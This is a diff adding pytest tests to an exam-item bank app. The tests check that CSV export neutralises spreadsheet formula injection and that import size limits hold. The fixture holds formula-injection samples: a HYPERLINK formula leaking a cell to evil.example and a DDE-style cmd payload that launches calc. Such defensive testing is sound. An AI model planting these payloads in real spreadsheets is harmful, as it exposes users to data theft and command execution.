@@ -763,3 +763,70 @@ def test_export_command_writes_the_file_and_refuses_an_unknown_topic(mixed_bank,
     with pytest.raises(CommandError) as caught:
         call_command("export_items", str(path), "--topic", "nowhere")
     assert caught.value.returncode == 1
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_bank(tmp_path: Path) -> None:
+    """Items whose texts start like spreadsheet formulas, imported from JSON (which carries them as they are)."""
+    items = every_kind()
+    items[0].update(stem='=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
+                    options=[{"id": o["id"], "text": f"{start}{o['text']}"} for o, start in zip(OPTIONS, "=+-@'", strict=True)],
+                    guide="@SUM(1+1)*cmd|' /C calc'!A0")
+    items[1]["stem"] = "+1 is added to which?"
+    items[2].update(stem="-5 °C stops clotting.", reason="'quoted on purpose")
+    items[3].update(stem="=2+2 is ____.", key=["=4", "four"])
+    items[4].update(code="-SURG-0005", topic="-cmd", topic_name="=Formula topic")
+    import_items(write_json(tmp_path / "formulas.json", items))
+
+
+def test_the_csv_export_neutralises_formulas_and_still_imports_unchanged(surgery, tmp_path):
+    """Issue 10, point 20: no cell of the item export starts a formula, and the export imports back unchanged."""
+    formula_bank(tmp_path)
+    wanted = bank_snapshot()
+    options = {v.item.code: v.options for v in ItemVersion.objects.select_related("item")}
+    path = tmp_path / "out" / "bank.csv"
+    export_items(path)
+    data = path.read_bytes()
+    assert data.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for the answer\")" in cells
+    assert "'=4|four" in cells and "''quoted on purpose" in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+
+    Item.objects.update(current_version=None)
+    ItemVersion.objects.all().delete()
+    Item.objects.all().delete()
+    Topic.objects.all().delete()
+    import_items(path)
+    assert bank_snapshot() == wanted
+    assert {v.item.code: v.options for v in ItemVersion.objects.select_related("item")} == options
+    again = tmp_path / "again" / "bank.csv"
+    export_items(again)
+    assert again.read_bytes() == data
+
+
+def test_an_item_file_larger_than_the_limit_is_refused_before_it_is_read(surgery, tmp_path, settings):
+    """Issue 10, point 19d: the item import had no size limit; past ITEM_IMPORT_MAX_BYTES it is refused by name."""
+    path = write_json(tmp_path / "bank.json", every_kind())
+    settings.ITEM_IMPORT_MAX_BYTES = path.stat().st_size - 1
+    assert refusal(path) == (
+        f"bank.json is larger than {(path.stat().st_size - 1) / 1_000_000:.1f} MB, the most an item file may be; "
+        "split it into several files."
+    )
+    with pytest.raises(CommandError, match="the most an item file may be"):
+        call_command("import_items", str(path))
+    settings.ITEM_IMPORT_MAX_BYTES = path.stat().st_size
+    assert import_items(path).created == len(every_kind())
+
+
+def test_an_item_image_larger_than_the_limit_is_refused(surgery, tmp_path, settings):
+    """Issue 10, point 19d: each image an item file names is limited too (it is copied to the bank)."""
+    picture = png(tmp_path / "images" / "scan.png")
+    items = every_kind()
+    items[0]["image"] = "images/scan.png"
+    path = write_json(tmp_path / "bank.json", items)
+    settings.ITEM_IMPORT_MAX_IMAGE_BYTES = picture.stat().st_size - 1
+    assert "the image images/scan.png is larger than" in refusal(path)
